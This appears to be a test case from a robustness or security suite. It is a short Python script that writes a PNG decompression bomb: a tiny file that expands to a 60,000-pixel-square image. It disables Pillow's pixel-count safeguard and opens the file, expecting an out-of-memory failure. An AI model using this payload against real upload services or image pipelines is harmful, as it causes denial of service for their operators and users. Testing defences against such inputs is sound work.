"""Opens a small picture that unpacks to gigabytes.

A picture of a few kilobytes passes every limit on uploads.
"""

import struct
import zlib

from PIL import Image

EXPECT = "out_of_memory"
BARE = "out_of_memory"

SIDE = 60_000


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def attack(target):
    row = zlib.compressobj(9)
    packed = b"".join(row.compress(bytes(1 + SIDE // 8)) for _ in range(SIDE)) + row.flush()
    header = struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0)
    with open("bomb.png", "wb") as file:
        file.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b""))
    Image.MAX_IMAGE_PIXELS = None
    return Image.open("bomb.png").convert("RGBA").size
